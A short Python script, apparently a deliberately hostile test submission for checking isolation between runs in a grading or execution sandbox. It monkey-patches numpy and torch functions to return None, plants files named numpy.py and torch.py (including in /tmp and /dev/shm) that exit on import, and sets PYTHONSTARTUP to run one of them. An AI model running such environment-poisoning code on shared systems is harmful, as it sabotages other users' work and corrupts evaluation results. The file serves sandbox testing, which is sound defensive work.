"""Changes modules in memory and leaves files for the next submission."""

import os
import pathlib

import numpy as np
import torch

np.zeros = np.full = np.pad = torch.zeros = lambda *args, **kwargs: None
for place in ("/tmp/numpy.py", "/dev/shm/left-by-an-attack", "numpy.py", "torch.py"):
    try:
        pathlib.Path(place).write_text("raise SystemExit")
    except OSError as error:
        print(error)
os.environ["PYTHONSTARTUP"] = "/tmp/numpy.py"
